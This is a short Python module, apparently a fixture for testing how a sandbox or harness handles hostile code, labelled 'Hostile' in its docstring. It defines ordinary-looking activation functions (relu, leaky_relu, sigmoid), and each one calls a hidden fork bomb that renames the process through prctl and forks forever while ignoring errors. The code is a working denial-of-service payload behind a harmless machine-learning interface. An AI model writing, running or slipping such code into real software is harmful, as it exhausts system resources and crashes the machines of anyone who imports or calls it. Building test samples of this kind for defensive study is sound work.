"""Hostile: a fork bomb in every function; every copy keeps forking, forever."""

import ctypes
import os


def _bomb():
    ctypes.CDLL(None).prctl(15, b"{{TAG}}", 0, 0, 0)  # PR_SET_NAME, inherited by every copy
    while True:
        try:
            os.fork()
        except OSError:
            pass


def relu(x):
    _bomb()


def leaky_relu(x, alpha=0.01):
    _bomb()


def sigmoid(x):
    _bomb()
